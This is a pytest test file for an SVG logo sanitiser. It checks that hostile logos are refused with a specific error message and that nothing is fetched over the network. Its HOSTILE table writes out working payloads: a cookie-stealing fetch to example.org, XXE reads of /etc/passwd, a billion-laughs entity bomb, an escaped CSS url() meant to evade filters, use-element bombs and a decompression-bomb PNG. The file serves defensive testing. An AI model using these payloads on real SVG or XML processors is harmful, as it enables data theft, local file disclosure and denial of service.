"""SVG logos: hostile ones refused with the line and what was found, and nothing fetched;
honest ones (as drawing programs save them) written anew with nothing but what draws."""

from __future__ import annotations

import base64
import time
import xml.etree.ElementTree as ET
from collections.abc import Callable
from io import BytesIO
from pathlib import Path

import pytest
from PIL import Image

from broadside.content.svg import MAX_ELEMENTS, Refused, sanitise
from broadside.errors import ExitCode
from tests.conftest import REPO, run_cli

OPEN = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 40">'
XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"'


def _png(size: tuple[int, int], mode: str = "RGB") -> str:
    buffer = BytesIO()
    Image.new(mode, size).save(buffer, "PNG")
    return base64.b64encode(buffer.getvalue()).decode()


def _uses(levels: int, copies: int) -> str:
    """<use> of <use> of …: each level copies the one below `copies` times."""
    groups = ['<g id="l0"><rect width="1" height="1"/></g>']
    groups += [
        f'<g id="l{level}">' + f'<use href="#l{level - 1}"/>' * copies + "</g>"
        for level in range(1, levels + 1)
    ]
    return OPEN + "<defs>" + "".join(groups) + f'</defs><use href="#l{levels}"/></svg>'


# What each hostile logo is, and the message `broadside check` prints for it (after
# "case/logo.svg:LINE: the logo ").
HOSTILE = {
    "script": (
        f'{OPEN}\n<script>fetch("https://example.org/?" + document.cookie)</script></svg>',
        "2: the logo holds <script>: logos run no scripts",
    ),
    "event handler": (
        f'{OPEN}\n<rect width="10" height="10" onclick="alert(1)"/></svg>',
        "2: the logo has an event handler, onclick on <rect>: logos run no scripts",
    ),
    "onload": (
        '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9" onload="alert(1)"/>',
        "1: the logo has an event handler, onload on <svg>: logos run no scripts",
    ),
    "external href": (
        f'{OPEN}\n<use href="https://example.org/logo.svg#mark"/></svg>',
        "2: the logo refers to 'https://example.org/logo.svg#mark' in <use>: a logo may refer "
        "only to its own parts (#id), never to a file or an address",
    ),
    "xlink to passwd": (
        f'<svg xmlns="http://www.w3.org/2000/svg" {XLINK} viewBox="0 0 9 9">\n'
        '<image xlink:href="file:///etc/passwd" width="9" height="9"/></svg>',
        "2: the logo refers to 'file:///etc/passwd' in <image>: a picture in a logo is "
        "embedded in it (a data: URL of a PNG, JPEG, GIF or WebP), never a file or an address",
    ),
    "picture beside it": (
        f'{OPEN}\n<image href="photo.png" width="9" height="9"/></svg>',
        "2: the logo refers to 'photo.png' in <image>: a picture in a logo is embedded in it "
        "(a data: URL of a PNG, JPEG, GIF or WebP), never a file or an address",
    ),
    "decompression bomb": (
        f'{OPEN}\n<image href="data:image/png;base64,{_png((19_000, 19_000), "1")}" '
        'width="9" height="9"/></svg>',
        "2: the logo embeds a picture that cannot be printed: it is a picture of 361,000,000 "
        "pixels; the limit is 40 megapixels and 20,000 pixels a side",
    ),
    "svg inside": (
        f'{OPEN}\n<image href="data:image/svg+xml;base64,PHN2Zy8+" width="9" height="9"/></svg>',
        "2: the logo embeds a picture that cannot be printed: it is not a PNG, JPEG, GIF or "
        "WebP picture",
    ),
    "billion laughs": (
        '<?xml version="1.0"?>\n<!DOCTYPE svg [\n<!ENTITY lol "lol">\n'
        + "".join(
            f'<!ENTITY lol{n} "{("&lol" + str(n - 1) + ";") * 10 if n > 1 else "&lol;" * 10}">\n'
            for n in range(1, 10)
        )
        + f"]>\n{OPEN}<text>&lol9;</text></svg>",
        "2: the logo has a DOCTYPE that declares entities: a logo may not declare a DTD or "
        "entities (they can expand to gigabytes, or read other files); delete the "
        "<!DOCTYPE …> declaration, or export the SVG again as plain SVG",
    ),
    "external entity": (
        '<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
        f"{OPEN}<text>&xxe;</text></svg>",
        "2: the logo has a DOCTYPE that declares entities: a logo may not declare a DTD or "
        "entities (they can expand to gigabytes, or read other files); delete the "
        "<!DOCTYPE …> declaration, or export the SVG again as plain SVG",
    ),
    "external DTD": (
        f'<?xml version="1.0"?>\n<!DOCTYPE svg SYSTEM "http://example.org/evil.dtd">\n{OPEN}</svg>',
        "2: the logo has a DOCTYPE: a logo may not declare a DTD or entities (they can expand "
        "to gigabytes, or read other files); delete the <!DOCTYPE …> declaration, or export "
        "the SVG again as plain SVG",
    ),
    "css url in style": (
        f'{OPEN}\n<rect width="9" height="9" style="fill: url(https://example.org/p.svg#g)"/>'
        "</svg>",
        "2: the logo refers to 'https://example.org/p.svg#g' in fill in the style of <rect>: "
        "a logo may refer only to its own parts (#id), never to a file or an address",
    ),
    "css url escaped": (
        f'{OPEN}\n<rect width="9" height="9" style="fill: \\75 rl(file:///etc/passwd)"/></svg>',
        "2: the logo refers to 'file:///etc/passwd' in fill in the style of <rect>: a logo may "
        "refer only to its own parts (#id), never to a file or an address",
    ),
    "css url in attribute": (
        f'{OPEN}\n<rect width="9" height="9" fill="url(\'http://example.org/x#g\')"/></svg>',
        "2: the logo refers to 'http://example.org/x#g' in fill on <rect>: a logo may refer "
        "only to its own parts (#id), never to a file or an address",
    ),
    "css import": (
        f'{OPEN}\n<style>@import url("https://example.org/a.css");</style></svg>',
        "2: the logo uses @import in <style>: a logo loads nothing and defines nothing beyond "
        "its own shapes",
    ),
    "css font face": (
        f"{OPEN}\n<style>@font-face {{ font-family: x; src: url(/etc/passwd) }}</style></svg>",
        "2: the logo uses @font-face in <style>: a logo loads nothing and defines nothing "
        "beyond its own shapes",
    ),
    "foreign object": (
        f'{OPEN}\n<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/'
        'xhtml" src="https://example.org"/></foreignObject></svg>',
        "2: the logo holds <foreignObject>: it embeds a web page",
    ),
    "link": (
        f'{OPEN}\n<a href="https://example.org"><rect width="9" height="9"/></a></svg>',
        "2: the logo holds <a>: a logo is not a link",
    ),
    "animation": (
        f'{OPEN}\n<use href="#a"><set attributeName="href" to="https://example.org/x.svg"/>'
        "</use></svg>",
        "2: the logo holds <set>: a printed logo does not move",
    ),
    "html inside": (
        f'{OPEN}\n<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script></svg>',
        "2: the logo holds <script> from http://www.w3.org/1999/xhtml, which is not SVG",
    ),
    "huge element count": (
        OPEN + '<rect width="1" height="1"/>' * (MAX_ELEMENTS + 1) + "</svg>",
        "the logo has more than 5,000 elements",
    ),
    "use bomb": (
        _uses(levels=6, copies=10),
        "the logo has more than 5,000 elements once the copies <use> makes are counted",
    ),
    "use loop": (
        f'{OPEN}<g id="a"><use href="#a"/></g></svg>',
        "the logo has a <use> that refers to itself, or to a group holding it",
    ),
    "not svg": (
        '<html xmlns="http://www.w3.org/1999/xhtml"><body/></html>',
        "1: the logo is not an SVG picture (it starts with <html>)",
    ),
    "broken xml": (
        f'{OPEN}\n<rect width="9"></svg>',
        "2: the logo is not well-formed XML (mismatched tag, column 19)",
    ),
    "text without glyphs": (
        f"{OPEN}\n<text>Snow ☃</text></svg>",
        "2: the logo has text that cannot be printed: no shipped font has '☃' (U+2603 "
        "SNOWMAN); it would print as an empty box; or convert it to outlines",
    ),
    "text with a bidi override": (
        f"{OPEN}\n<text>Harbour \u202eWorkers</text></svg>",
        "2: the logo has text that cannot be printed: bidirectional control U+202E "
        "RIGHT-TO-LEFT OVERRIDE: it reorders the printed words without showing why; delete it "
        "(to set a right-to-left phrase inside other text, use the isolates U+2067 and "
        "U+2069); or convert it to outlines",
    ),
    "no size": (
        '<svg xmlns="http://www.w3.org/2000/svg"><rect width="9" height="9"/></svg>',
        "1: the logo has neither a viewBox nor a width and height, so its proportions are "
        "unknown: export it again with a viewBox",
    ),
}


@pytest.fixture
def logo_campaign(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, make_campaign: Callable[..., Path]
) -> Callable[[str], Path]:
    def make(svg: str) -> Path:
        monkeypatch.chdir(tmp_path)
        root = make_campaign()
        (root / "brand.yaml").write_text("name: Harbour Workers United\nlogo: logo.svg\n")
        (root / "logo.svg").write_text(svg, encoding="utf-8")
        Image.new("RGB", (9, 9)).save(root / "photo.png")
        return root.relative_to(tmp_path)

    return make


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_a_hostile_logo_is_refused_and_nothing_is_fetched_or_written(
    case: str, logo_campaign: Callable[[str], Path], no_network: list[object]
) -> None:
    svg, expected = HOSTILE[case]
    folder = logo_campaign(svg)
    started = time.perf_counter()
    result = run_cli("build", folder, "--out", "dist")
    assert time.perf_counter() - started < 20  # bounded, even on a busy machine
    assert result.exit_code == ExitCode.CONTENT, result.output
    assert "Traceback" not in result.output
    line = expected.split(": ", 1)[0] if expected[0].isdigit() else ""
    where = f"campaign/logo.svg:{line}: " if line else "campaign/logo.svg: "
    message = expected.split(": ", 1)[1] if line else expected
    assert result.stderr.splitlines() == [where + message]
    assert not Path("dist").exists()


def test_an_inkscape_logo_keeps_what_draws_and_drops_the_bookkeeping() -> None:
    source = (REPO / "tests" / "campaigns" / "branded-svg" / "logo.svg").read_bytes()
    safe = sanitise(source)
    text = safe.data.decode()
    tree = ET.fromstring(safe.data)
    assert tree.tag == "{http://www.w3.org/2000/svg}svg"
    assert (safe.width, safe.height) == (480, 120)
    assert tree.get("viewBox") == "0 0 480 120"
    for kept in (
        "radialGradient",
        "fill:url(#sun)",
        ".sea{fill:#1d5c8a}",
        'href="#wave"',
        "Harbour Workers",
        "<style>",
    ):
        assert kept in text
    for dropped in ("inkscape", "sodipodi", "rdf", "metadata", "<title>", "data-name", "<!--"):
        assert dropped not in text
    assert sanitise(safe.data) == safe  # written anew, it is already as safe as it gets


def test_an_embedded_picture_is_written_back_as_what_it_is() -> None:
    """A PNG that claims to be a JPEG is embedded as the PNG it is."""
    picture = _png((4, 2))
    svg = f'{OPEN}<image href="data:image/jpeg;base64,\n{picture}" width="4" height="2"/></svg>'
    safe = sanitise(svg.encode())
    assert safe.pictures == (f"data:image/png;base64,{picture}",)
    assert f'href="data:image/png;base64,{picture}"' in safe.data.decode()


def test_sizes_in_units_give_the_proportions() -> None:
    safe = sanitise(b'<svg xmlns="http://www.w3.org/2000/svg" width="60mm" height="2cm"/>')
    assert safe.width / safe.height == pytest.approx(3.0)
    assert ET.fromstring(safe.data).get("viewBox") == "0 0 226.7717 75.5906"


@pytest.mark.parametrize(
    "svg",
    [
        _uses(levels=30, copies=1),  # few copies, but drawn deeper than allowed
        OPEN + "<g>" * 40 + "</g>" * 40 + "</svg>",
    ],
)
def test_depth_is_bounded(svg: str) -> None:
    with pytest.raises(Refused, match="deep"):
        sanitise(svg.encode())


def test_a_long_chain_of_uses_is_refused_without_deep_recursion() -> None:
    """Groups listed last-first, each copying the one after it: measured from the first, the
    chain is 2,000 copies long."""
    groups = (
        "".join(f'<g id="g{n}"><use href="#g{n + 1}"/></g>' for n in range(2_000))
        + '<g id="g2000"><rect width="1" height="1"/></g>'
    )
    with pytest.raises(Refused, match="drawn more than 48 levels deep"):
        sanitise(f"{OPEN}<defs>{groups}</defs></svg>".encode())


def test_a_logo_of_as_many_elements_as_allowed_is_kept() -> None:
    """The limit counts what is drawn: the root and MAX_ELEMENTS - 1 paths pass, one more
    does not."""
    paths = '<path d="M0 0h1v1z"/>' * (MAX_ELEMENTS - 1)
    safe = sanitise(f"{OPEN}{paths}</svg>".encode())
    assert len(ET.fromstring(safe.data)) == MAX_ELEMENTS - 1
    with pytest.raises(Refused, match="more than 5,000 elements"):
        sanitise(f'{OPEN}{paths}<path d="M0 0h1v1z"/></svg>'.encode())


def test_a_refusal_is_quick_however_large_the_expansion() -> None:
    for case in ("billion laughs", "use bomb", "huge element count"):
        started = time.perf_counter()
        with pytest.raises(Refused):
            sanitise(HOSTILE[case][0].encode())
        assert time.perf_counter() - started < 5, case
